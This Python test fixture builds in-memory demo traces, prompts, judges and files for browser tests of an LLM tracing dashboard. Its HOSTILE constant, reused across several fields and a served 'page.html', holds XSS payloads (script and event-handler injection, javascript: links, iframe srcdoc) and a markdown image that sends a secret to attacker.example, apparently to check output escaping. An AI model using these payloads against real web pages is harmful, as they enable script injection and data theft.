"""The pages over stores in memory: what the browser tests open, and what a designer looks at (``python tests/ui/demo_app.py``)."""

import hashlib
import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import msgspec
from litestar import Litestar
from litestar.exceptions import NotFoundException

from config.schema import ProviderSettings, RouteSettings, Settings, TargetSettings
from config.secrets import Secret
from evals.agreement import Agreement, Pair, agreement_of
from evals.types import Judge, Judgement, JudgementState, JudgeStats, ResultType
from registry.artifacts.messages import FileInfo
from registry.errors import ResourceDoesNotExist
from registry.prompts.errors import PromptNotFound
from registry.prompts.types import Message, Prompt, PromptPage, PromptVersion
from server.health import Condition
from server.ui.datasets import DatasetExample, DatasetLine, DatasetRecords
from server.ui.playground import Played
from server.ui.services import (
    Facets,
    FacetValue,
    Judged,
    JudgeReport,
    UiServices,
    UsageBy,
    UsageRow,
)
from server.ui.usage_chart import UsagePoint, UsageStep
from server.ui.views import error_page, router
from storage.records import JournalStats
from tests.ui.demo_catalog import MemorySkillFiles
from tests.ui.demo_registry import make_registry
from tests.ui.demo_reviews import make_administration, target_states
from tracing.errors import FilterError, SpanNotFound, TraceNotFound
from tracing.prompt_scores_store import PromptScore, VersionScores
from tracing.types import (
    Assessment,
    Cost,
    ScoreSummary,
    SpanContent,
    SpanEvent,
    SpanView,
    Status,
    Trace,
    TracePage,
    TraceSummary,
    Usage,
)

HOSTILE = (
    "# Report\n\n<script>window.pwned=1</script> <img src=x onerror=window.pwned=1> ![steal](https://attacker.example/?q=secret)\n\n"
    "[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [ok](https://example.com/a)\n\n"
    '<div hx-get="/ui/first-trace" hx-trigger="load">x</div><style>body{display:none}</style><svg onload=window.pwned=1></svg>\n\n'
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code` and **bold**"
)
NOW = datetime.now(UTC)


def moment(seconds_ago: float, plus_ms: float = 0) -> str:
    return (NOW - timedelta(seconds=seconds_ago) + timedelta(milliseconds=plus_ms)).isoformat().replace("+00:00", "Z")


def at(seconds_ago: float) -> datetime:
    return NOW - timedelta(seconds=seconds_ago)


def hexadecimal(seed: str, digits: int) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:digits]


def make_span(
    trace_id: str, key: str, name: str, kind: str, offset: float, length: float, parent: str | None = None, **more: Any
) -> SpanView:
    fields: dict[str, Any] = {
        "trace_id": trace_id, "span_id": hexadecimal(trace_id + key, 16), "parent_span_id": parent, "name": name, "kind": kind, "otel_kind": "INTERNAL",
        "status": Status.OK, "status_message": "", "error_type": "", "start_time": moment(60, offset), "end_time": moment(60, offset + length),
        "offset_ms": offset, "duration_ms": length, "ttft_ms": None, "service_name": "shop", "scope_name": "demo", "source": "otlp", "convention": "gen_ai",
        "operation": "", "provider": "", "request_model": "", "response_model": "", "response_id": "", "finish_reasons": [], "is_streaming": False,
        "usage": Usage(), "cost": Cost(), "session_id": "", "user_id": "", "tags": [], "agent_name": "", "tool_name": "", "tool_call_id": "",
        "prompt_name": "", "prompt_version": "", "run_id": "", "route": "", "judge_name": "", "input_preview": "", "output_preview": "",
        "attributes": {"gen_ai.operation.name": "chat", "server.address": "api.example.com"}, "resource": {"service.name": "shop", "host.name": "web-1"},
        "events": [], "links": [],
    }  # fmt: skip
    return SpanView(**{**fields, **more})


def make_summary(trace_id: str, name: str, ago: float, length: float, **more: Any) -> TraceSummary:
    fields: dict[str, Any] = {
        "trace_id": trace_id, "name": name, "start_time": moment(ago), "end_time": moment(ago, length), "duration_ms": length, "status": Status.OK,
        "root_seen": True, "span_count": 1, "error_count": 0, "llm_calls": 1, "models": ["gpt-4o-mini"], "services": ["shop"], "input_preview": "",
        "output_preview": "", "input_tokens": 812, "output_tokens": 214, "usage_estimated": False, "cost": Decimal("0.000251"), "unpriced_calls": 0,
        "ttft_ms": 210.0, "session_id": "", "user_id": "", "tags": [], "prompt_name": "", "prompt_version": "", "route": "", "judge_name": "",
        "source": "gateway", "scores": [],
    }  # fmt: skip
    return TraceSummary(**{**fields, **more})


CONVERSATION = SpanContent(
    system=msgspec.json.encode([{"type": "text", "content": "You are the support agent of a lamp shop. Be brief and kind."}]).decode(),
    input=msgspec.json.encode(
        [
            {"role": "user", "parts": [{"type": "text", "content": "Where is order 1007? It should have been here on Monday."}]},
            {"role": "assistant", "parts": [{"type": "reasoning", "content": "I need the state of the order first."}, {"type": "tool_call", "id": "c1", "name": "search_orders", "arguments": {"id": 1007}}]},
            {"role": "tool", "parts": [{"type": "tool_call_response", "id": "c1", "response": {"status": "late", "depot": "Bremen", "expected": "2026-11-26"}}]},
            {"role": "user", "parts": [{"type": "uri", "modality": "image", "mime_type": "image/png", "uri": "https://cdn.example.com/parcel.png"}, {"type": "text", "content": "Here is the slip."}]},
        ]
    ).decode(),
    output=msgspec.json.encode(
        [{"role": "assistant", "parts": [{"type": "text", "content": "It left the depot in **Bremen** this morning and should reach you on Thursday, 26 November.\n\nShall I send you the tracking link?"}], "finish_reason": "stop"}]
    ).decode(),
    tools=msgspec.json.encode([{"type": "function", "name": "search_orders"}, {"type": "function", "function": {"name": "refund"}}]).decode(),
)  # fmt: skip


def agent_trace() -> tuple[Trace, dict[str, SpanContent]]:
    tid = hexadecimal("agent", 32)
    root = make_span(
        tid,
        "root",
        "support_agent",
        "AGENT",
        0,
        4168,
        status=Status.ERROR,
        error_type="TimeoutError",
        status_message="judge did not answer within 2 s",
    )
    plan = make_span(
        tid,
        "plan",
        "chat gpt-4o-mini",
        "LLM",
        12,
        1220,
        root.span_id,
        provider="openai",
        response_model="gpt-4o-mini-2024-07-18",
        ttft_ms=310.0,
        usage=Usage(input_tokens=1204, output_tokens=240, cache_read_tokens=1024),
        cost=Cost(total=Decimal("0.0021"), source="genai-prices"),
        prompt_name="support",
        prompt_version="3",
    )
    tool = make_span(tid, "tool", "search_orders", "TOOL", 1240, 341, root.span_id)
    sub = make_span(tid, "sub", "vector_search", "RETRIEVER", 1600, 88, tool.span_id)
    emb = make_span(tid, "emb", "embed query", "EMBEDDING", 1604, 31, sub.span_id)
    guard = make_span(tid, "guard", "pii filter", "GUARDRAIL", 1700, 14, root.span_id)
    last = make_span(
        tid,
        "last",
        "chat gpt-4o-mini",
        "LLM",
        1730,
        2010,
        root.span_id,
        provider="openai",
        response_model="gpt-4o-mini-2024-07-18",
        usage=Usage(input_tokens=900, output_tokens=80, estimated=True),
        cost=Cost(),
    )
    cut = make_span(tid, "cut", "write summary", "CHAIN", 3760, 400, root.span_id, status=Status.INTERRUPTED)
    bad = make_span(
        tid,
        "bad",
        "judge:helpful",
        "EVALUATOR",
        2100,
        2000,
        root.span_id,
        status=Status.ERROR,
        error_type="TimeoutError",
        status_message="no answer within 2 s",
        events=[
            SpanEvent(
                time_ns=int((NOW.timestamp() - 58) * 1e9),
                name="exception",
                attributes={"exception.type": "TimeoutError", "exception.message": "no answer within 2 s"},
            )
        ],
    )
    orphan = make_span(tid, "orphan", "late worker", "TASK", 3900, 120, "f" * 16)
    assessments = [
        Assessment(
            assessment_id="a1",
            trace_id=tid,
            name="helpful",
            value=True,
            rationale="It names the depot and a date, and offers the next step.",
            source_type="LLM_JUDGE",
            source_id="helpful",
            judge_name="helpful",
            judge_version="9f2c11aa03de",
            judge_trace_id=hexadecimal("judging", 32),
            judge_cost=Decimal("0.00012"),
            created_at=moment(30),
            updated_at=moment(30),
        ),
        Assessment(
            assessment_id="a2",
            trace_id=tid,
            name="grounded",
            source_type="LLM_JUDGE",
            judge_name="grounded",
            judge_version="77aa01",
            error_code="unparsable_reply",
            error_message="the reply holds no verdict: 'I would rather not say'",
            created_at=moment(29),
            updated_at=moment(29),
        ),
        Assessment(
            assessment_id="a3",
            trace_id=tid,
            name="tone",
            value=0.82,
            rationale="Warm, a little long.",
            source_type="HUMAN",
            source_id="maria",
            created_at=moment(20),
            updated_at=moment(20),
        ),
    ]
    scores = [
        ScoreSummary(name="helpful", value=True),
        ScoreSummary(name="grounded", error_code="unparsable_reply"),
        ScoreSummary(name="tone", value=0.82, source_type="HUMAN"),
    ]
    summary = make_summary(
        tid,
        "support_agent",
        12,
        4168,
        status=Status.ERROR,
        span_count=10,
        error_count=2,
        models=["gpt-4o-mini", "text-embedding-3-small"],
        input_preview="Where is order 1007? It should have been here on Monday.",
        output_preview="It left the depot in Bremen this morning and should reach you on Thursday, 26 November.",
        input_tokens=2104,
        output_tokens=320,
        usage_estimated=True,
        ttft_ms=None,
        cost=Decimal("0.0021"),
        unpriced_calls=1,
        session_id="chat/42",
        user_id="u-17",
        tags=["beta"],
        prompt_name="support",
        prompt_version="3",
        route="chat",
        scores=scores,
    )
    spans = [root, plan, tool, sub, emb, guard, last, cut, bad, orphan]
    return Trace(summary=summary, spans=spans, assessments=assessments), {root.span_id: CONVERSATION, plan.span_id: CONVERSATION}  # fmt: skip


def hostile_trace() -> tuple[Trace, dict[str, SpanContent]]:
    tid = hexadecimal("hostile", 32)
    span = make_span(tid, "root", "<img src=x onerror=window.pwned=1>", "LLM", 0, 300, attributes={"<b>key</b>": HOSTILE})
    content = SpanContent(
        input=msgspec.json.encode([{"role": "user", "content": HOSTILE}]).decode(),
        output=msgspec.json.encode([{"role": "assistant", "content": HOSTILE}]).decode(),
    )
    verdict = Assessment(
        assessment_id="h",
        trace_id=tid,
        name="<script>x</script>",
        value="<img src=x onerror=window.pwned=1>",
        rationale=HOSTILE,
        source_type="LLM_JUDGE",
        created_at=moment(5),
        updated_at=moment(5),
    )
    summary = make_summary(
        tid,
        span.name,
        40,
        300,
        input_preview=HOSTILE[:200],
        output_preview=HOSTILE[:200],
        cost=None,
        unpriced_calls=1,
        input_tokens=None,
        output_tokens=None,
        models=["mystery-7b"],
        scores=[ScoreSummary(name=verdict.name, value=verdict.value)],
        tags=["<i>tag</i>"],
    )
    return Trace(summary=summary, spans=[span], assessments=[verdict]), {span.span_id: content}


def huge_trace(size: int = 10_000) -> tuple[Trace, dict[str, SpanContent]]:
    tid = hexadecimal("huge", 32)
    chance = random.Random(7)
    spans = [make_span(tid, "0", "crawler", "AGENT", 0, 60_000)]
    path = [spans[0]]
    for index in range(1, size):
        while (len(path) > 1 and chance.random() < 0.4) or len(path) > 8:
            path.pop()
        parent = path[-1]
        offset = parent.offset_ms + (index / size) * 0.9 * parent.duration_ms
        span = make_span(
            tid,
            str(index),
            f"step {index}",
            chance.choice(["LLM", "TOOL", "RETRIEVER", "CHAIN"]),
            min(offset, 59_900),
            chance.uniform(5, 900),
            parent.span_id,
        )
        spans.append(span)
        path.append(span)
    return Trace(summary=make_summary(tid, "crawler", 90, 60_000, span_count=size), spans=spans, assessments=[]), {}


def plain_traces(count: int) -> list[tuple[Trace, dict[str, SpanContent]]]:
    chance = random.Random(3)
    names = [("chat gpt-4o-mini", "gpt-4o-mini"), ("rag_answer", "claude-haiku-4-5"), ("classify", "gpt-4o-mini"), ("chat echo", "echo")]
    asked = [
        "Compare plan A and plan B for a team of twelve",
        "Is the warranty valid in Norway?",
        "Summarise the ticket in one line",
        "Hello, tide",
        "Translate 'low water' into Dutch",
    ]
    told = [
        "Plan B costs less from nine seats on; plan A has the audit log.",
        "Yes, for two years from the day of delivery.",
        "Customer asks for a refund of a broken lamp.",
        "Hello, tide",
        "Laagwater",
    ]
    made = []
    for index in range(count):
        name, model = chance.choice(names)
        tid, pick, length = hexadecimal(f"plain{index}", 32), chance.randrange(5), chance.lognormvariate(6.6, 0.8)
        status = Status.INTERRUPTED if index == 5 else Status.ERROR if chance.random() < 0.06 else Status.OK
        known = model != "echo"
        scores = [ScoreSummary(name="helpful", value=chance.random() < 0.8)] if chance.random() < 0.7 else []
        span = make_span(
            tid,
            "root",
            name,
            "LLM",
            0,
            length,
            status=status,
            provider="openai",
            response_model=model,
            usage=Usage(input_tokens=812, output_tokens=214),
        )
        summary = make_summary(
            tid,
            name,
            70 + index * 97,
            length,
            status=status,
            models=[model],
            input_preview=asked[pick],
            output_preview="" if status is not Status.OK else told[pick],
            usage_estimated=not known,
            cost=Decimal(str(round(chance.uniform(0.00004, 0.02), 6))) if known else None,
            unpriced_calls=0 if known else 1,
            scores=scores,
            root_seen=index != 7,
            input_tokens=chance.randrange(20, 4000),
            output_tokens=chance.randrange(5, 900),
        )
        content = SpanContent(
            input=msgspec.json.encode([{"role": "user", "content": asked[pick]}]).decode(),
            output=msgspec.json.encode([{"role": "assistant", "content": told[pick]}]).decode(),
        )
        made.append((Trace(summary=summary, spans=[span], assessments=[]), {span.span_id: content}))
    return made


class MemoryTraces:
    """Traces in a list. Its filter knows ``model``, ``status`` and ``prompt`` with ``=``, and refuses the rest."""

    def __init__(self, traces: Sequence[tuple[Trace, dict[str, SpanContent]]] = ()) -> None:
        self.stored = list(traces)

    async def search(
        self,
        filter: str | None = None,
        order: str = "-start_time",
        limit: int = 50,
        cursor: str | None = None,
        since_ns: int | None = None,
        until_ns: int | None = None,
    ) -> TracePage:
        found = [trace.summary for trace, _ in self.stored if _matches(trace.summary, filter)]
        key = {"start_time": "start_time", "duration": "duration_ms", "cost": "cost", "tokens": "input_tokens"}[order.lstrip("-")]
        found.sort(key=lambda one: value if (value := getattr(one, key)) is not None else Decimal(-1), reverse=order.startswith("-"))
        start = int(cursor or 0)
        return TracePage(traces=found[start : start + limit], next_cursor=str(start + limit) if start + limit < len(found) else None)

    async def get_skeleton(self, trace_id: str) -> Trace:
        return self._find(trace_id)[0]

    async def content(self, trace_id: str, span_id: str) -> SpanContent:
        trace, contents = self._find(trace_id)
        if all(span.span_id != span_id for span in trace.spans):
            raise SpanNotFound(trace_id, span_id)
        return contents.get(span_id, SpanContent())

    async def has_any(self) -> bool:
        return bool(self.stored)

    async def facets(self, since_ns: int | None = None, *, judges: bool = True) -> Facets:
        models = sorted({model for trace, _ in self.stored for model in trace.summary.models})
        return Facets(models=[FacetValue(model, 1) for model in models], prompts=[FacetValue("support", 1)])

    async def prompt_scores(self, name: str) -> VersionScores:
        def score(version: int, name: str, **given) -> PromptScore:
            unset = {"unscored": 0, "answered": 0, "yes": 0, "measured": 0, "mean": None, "categories": {}}
            return PromptScore(version=str(version), name=name, **{**unset, **given})

        scores = [
            score(1, "helpful", scored=40, answered=40, yes=22),
            score(3, "helpful", scored=12, unscored=2, answered=12, yes=11),
            score(1, "tone", scored=9, categories={"kind": 4, "<b>rude</b>": 5}),
            score(1, "similarity", scored=40, measured=40, mean=0.61),
            score(2, "similarity", scored=8, measured=8, mean=0.74),
            score(3, "similarity", scored=0, unscored=14),
        ]
        return VersionScores({"1": 41, "2": 8, "3": 14} if name == "support" else {}, scores if name == "support" else [])

    async def over_time(self, since_ns: int, step: UsageStep) -> Sequence[UsagePoint]:
        hour = int(NOW.timestamp()) // 3600 * 3600
        return [
            UsagePoint(at=hour - 3600 * n, calls=900 - 30 * n, errors=n % 4, cost=Decimal("0.4") if n % 5 else None, p95_ms=1900.0 - n)
            for n in range(20, -1, -1)
        ]

    async def usage(self, since_ns: int, by: UsageBy = "model") -> Sequence[UsageRow]:
        if by != "model":
            figures = {
                "calls": 19_156,
                "errors": 142,
                "input_tokens": None,
                "output_tokens": None,
                "cost": None,
                "latency_p50_ms": 320,
                "latency_p95_ms": 1900,
                "ttft_p50_ms": 190,
            }
            return [UsageRow(**{by: "vendor's own"}, **figures)]
        return [
            UsageRow(provider="openai", model="gpt-4o-mini", calls=18_204, errors=142, input_tokens=14_100_000, output_tokens=3_100_000, cost=Decimal("41.2"), latency_p50_ms=310, latency_p95_ms=1900, ttft_p50_ms=180),
            UsageRow(provider="anthropic", model="claude-haiku-4-5", calls=940, errors=0, input_tokens=88_000, output_tokens=21_000, cost=Decimal("0.193"), latency_p50_ms=880, latency_p95_ms=2400, ttft_p50_ms=420),
            UsageRow(provider="fake", model="echo", calls=12, errors=0, input_tokens=None, output_tokens=None, cost=None, latency_p50_ms=0.4, latency_p95_ms=0.9, ttft_p50_ms=None),
        ]  # fmt: skip

    def put(self, assessments: Sequence[Assessment]) -> None:
        for one in assessments:
            self.stored = [
                (
                    msgspec.structs.replace(trace, assessments=[*trace.assessments, one])
                    if trace.summary.trace_id == one.trace_id
                    else trace,
                    said,
                )
                for trace, said in self.stored
            ]

    def _find(self, trace_id: str) -> tuple[Trace, dict[str, SpanContent]]:
        for trace, contents in self.stored:
            if trace.summary.trace_id == trace_id:
                return trace, contents
        raise TraceNotFound(trace_id)


def _matches(trace: TraceSummary, expression: str | None) -> bool:
    for term in (expression or "").replace("judging = false", "").split(" and "):
        field, _, value = term.strip("() ").partition(" = ")
        value = value.strip("' )")
        if term and field not in {"model", "status", "prompt", "session"}:
            position = (expression or "").index(field)
            raise FilterError(f"there is no field {field!r}", position=position, hint="did you mean 'model'?")
        have = {
            "model": trace.models,
            "status": [trace.status.value.lower()],
            "prompt": [trace.prompt_name],
            "session": [trace.session_id],
        }.get(field)
        if have is not None and value not in have:
            return False
    return True


class MemoryPrompts:
    """One chat prompt of three versions and one text prompt."""

    def __init__(self) -> None:
        system = [
            "You are a support agent.\nAnswer the question.\nBe brief.",
            "You are the support agent of a lamp shop.\nAnswer the question.\nBe brief.",
            "You are the support agent of a lamp shop.\nAnswer the question, and name the next step.\nBe brief and kind.",
        ]
        notes = ["first", "say which shop", "kinder, and name the next step"]
        aliases: list[list[str]] = [[], ["production"], ["staging"]]
        self.all = {
            "support": [
                PromptVersion(name="support", version=n + 1, kind="chat", template=None, messages=[Message("system", system[n]), Message("user", "{{ question }}")], variables=["question"], aliases=aliases[n], tags={}, commit_message=notes[n], model=None, created_by="maria", created_at=at(86_400 * (4 - n)))
                for n in (2, 1, 0)
            ],
            "summary": [PromptVersion(name="summary", version=1, kind="text", template="Summarise in {{ words }} words:\n\n{{ text }}", messages=None, variables=["words", "text"], aliases=[], tags={"team": "desk"}, commit_message="", model="openai/gpt-4o-mini", created_by="", created_at=at(7200))],
        }  # fmt: skip

    async def list(self, limit: int = 100, cursor: str = "") -> PromptPage:
        prompts = [
            Prompt(name=name, latest_version=versions[0].version, aliases={alias: one.version for one in versions for alias in one.aliases}, description="Answers customers" if name == "support" else "", created_at=at(9e5), updated_at=versions[0].created_at)
            for name, versions in self.all.items()
        ]  # fmt: skip
        return PromptPage(prompts=prompts)

    async def versions(self, name: str, limit: int = 100) -> Sequence[PromptVersion]:
        if name not in self.all:
            raise PromptNotFound(f"there is no prompt {name!r}", hint="Did you mean 'support'?")
        return self.all[name]


class MemoryJudges:
    """Two judges, one with failures."""

    async def reports(self) -> Sequence[JudgeReport]:
        helpful = Judge(
            name="helpful",
            version="9f2c11aa03de",
            instructions="Is {{ outputs }} a helpful answer to {{ inputs }}?\n\nHelpful means: it answers what was asked, and says what to do next.",
            model="openai/gpt-4o-mini",
            result=ResultType(),
            sample=0.1,
            filter="status = 'ok'",
        )
        tone = Judge(
            name="tone",
            version="77aa01bc",
            instructions="Rate the tone of {{ outputs }} from 0 to 1.",
            model="chat",
            result=ResultType(type="number", minimum=0, maximum=1),
            online=False,
        )
        return [
            JudgeReport(judge=helpful, stats=JudgeStats(scored=1804, failed=3, waiting=12, sampled_out=16_220, cost=Decimal("0.42"), mean=0.873, mean_of=1804)),
            JudgeReport(judge=tone),
        ]  # fmt: skip

    async def agreement(self, name: str) -> Agreement:
        if name != "helpful":
            return Agreement()
        return agreement_of([Pair("yes", "yes", 81), Pair("no", "no", 41), Pair("yes", "no", 17), Pair("no", "yes", 4)])

    async def recent(self, name: str, limit: int) -> Sequence[Judged]:
        if name != "helpful":
            return []
        states = [JudgementState.SCORED, JudgementState.FAILED, JudgementState.SCORED, JudgementState.RETRY]
        reasons = ["", "the reply holds no verdict: 'I would rather not say'", "", "429 from openai, again in 20 s"]
        return [
            Judged(
                judgement=Judgement(judge_name=name, judge_version="9f2c11aa03de", trace_id=hexadecimal(f"plain{n}", 32), trace_revision="r", state=states[n], attempts=n + 1, reason=reasons[n], cost=Decimal("0.00012") if n != 3 else None, judge_trace_id=hexadecimal("judging", 32), updated_at=moment(20 * n + 3)),
                assessment=Assessment(assessment_id=f"j{n}", trace_id="t", name=name, value=n == 0, rationale="It answers the question and names the next step.", source_type="LLM_JUDGE", created_at=moment(3), updated_at=moment(3)) if n in {0, 2} else None,
            )
            for n in range(4)
        ]  # fmt: skip


class MemoryDatasets:
    """One dataset."""

    line = DatasetLine(
        dataset_id="d-1", name="refund questions", records=2, experiments=["1"], tags={"team": "support"}, fields={"inputs": ["question"]},
        created_by="ann", updated_at=moment(30),
    )  # fmt: skip

    async def list(self, page):
        return [self.line], "next" if not page else ""

    async def show(self, dataset_id, page):
        if dataset_id != "d-1":
            raise ResourceDoesNotExist(f"Evaluation dataset with id '{dataset_id}' not found")
        made = DatasetExample(inputs='{"question": "<b>Where</b> is it?"}', trace_id=hexadecimal("plain1", 32), updated_at=moment(9))
        return DatasetRecords(
            dataset=self.line, examples=[made, DatasetExample(inputs="{}", expectations='{"a": 1}', updated_at=moment(8))]
        )


SETTINGS = Settings(
    providers={
        "fake": ProviderSettings(kind="fake"),
        "openai": ProviderSettings(api_key=Secret("sk-do-not-show", "env:OPENAI_API_KEY")),
        "local": ProviderSettings(base_url="http://user:hidden@127.0.0.1:11434/v1"),
    },
    routes=(
        RouteSettings(
            name="chat",
            targets=(TargetSettings(model="openai/gpt-4o-mini", weight=80), TargetSettings(model="anthropic/claude-haiku-4-5", weight=20)),
            fallbacks=("local/llama3",),
        ),
    ),
)
HEALTHY = Condition(
    storage_ready=True,
    storage_error=None,
    journal=JournalStats(bytes=0, limit_bytes=1, pending=0, dropped=0, oldest_pending_seconds=None, last_error=None),
    config_version=1,
    config_error=None,
    started_seconds_ago=1,
)


def all_traces() -> list[tuple[Trace, dict[str, SpanContent]]]:
    return [agent_trace(), hostile_trace(), huge_trace(), *plain_traces(120)]


class MemoryFiles:
    """The files of one run, ``"run"``."""

    FILES = {
        "model/MLmodel": b"flavors:\n  python_function: {}\n",
        "page.html": HOSTILE.encode(),
        "plots/loss.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40"><path d="M0 5 30 25 90 35" fill="none" stroke="teal"/></svg>',
        "weights.bin": bytes(2_000_000),
        "long.txt": b"line\n" * 40_000,
    }

    async def list(self, run_id: str, folder: str) -> Sequence[FileInfo]:
        self.check(run_id)
        start = f"{folder}/" if folder else ""
        names = sorted({path[len(start) :].partition("/")[0] for path in self.FILES if path.startswith(start)})
        sizes = {name: self.FILES.get(start + name) for name in names}
        return [FileInfo(path=start + name, is_dir=file is None, file_size=len(file) if file else None) for name, file in sizes.items()]

    async def head(self, run_id: str, path: str, limit: int) -> tuple[int, bytes]:
        self.check(run_id)
        if path not in self.FILES:
            raise ResourceDoesNotExist(f"No such artifact: '{path}'")
        return len(self.FILES[path]), self.FILES[path][:limit]

    def check(self, run_id: str) -> None:
        if run_id != "run":
            raise ResourceDoesNotExist(f"Run with id={run_id} not found")


class EchoPlayground:
    """Answers with what it was asked last; ``fake/down`` never does."""

    def models(self) -> Sequence[str]:
        return ["chat", "fake/echo"]

    async def send(self, body: bytes) -> Played:
        asked = msgspec.json.decode(body)
        if asked["model"] == "fake/down":
            return Played(
                status=502,
                body=b'{"error": {"message": "It is away."}}',
                trace_id="",
                target="",
                took_ms=1,
                input_tokens=None,
                output_tokens=None,
            )
        said = (asked["messages"] or [{"content": str(asked.get("prompt_variables"))}])[-1]["content"]
        answer = msgspec.json.encode(
            {"choices": [{"message": {"role": "assistant", "content": f"You said: {said}"}, "finish_reason": "stop"}]}
        )
        return Played(status=200, body=answer, trace_id=f"{7:032x}", target="fake/echo", took_ms=12, input_tokens=3, output_tokens=None)


def make_services(traces: MemoryTraces, condition: Condition = HEALTHY) -> UiServices:
    return UiServices(
        traces=traces,
        figures=traces,
        assessments=traces,
        prompts=MemoryPrompts(),
        judges=MemoryJudges(),
        registry=make_registry([trace.summary.trace_id for trace, _ in traces.stored[:3]]),
        run_files=MemoryFiles(),
        skill_files=MemorySkillFiles(),
        datasets=MemoryDatasets(),
        administration=make_administration(),
        playground=EchoPlayground(),
        targets=target_states,
        settings=lambda: SETTINGS,
        condition=lambda: condition,
        version="0.1.0",
    )


def make_app(services: UiServices) -> Litestar:
    return Litestar([router(services)], exception_handlers={NotFoundException: error_page}, openapi_config=None, logging_config=None)


if __name__ == "__main__":
    import asyncio
    import sys

    from server.http.listener import Listener

    async def serve() -> None:
        app = make_app(make_services(MemoryTraces([] if "--empty" in sys.argv else all_traces())))
        await Listener.open(app, "127.0.0.1", 8899)
        await asyncio.Event().wait()

    asyncio.run(serve())
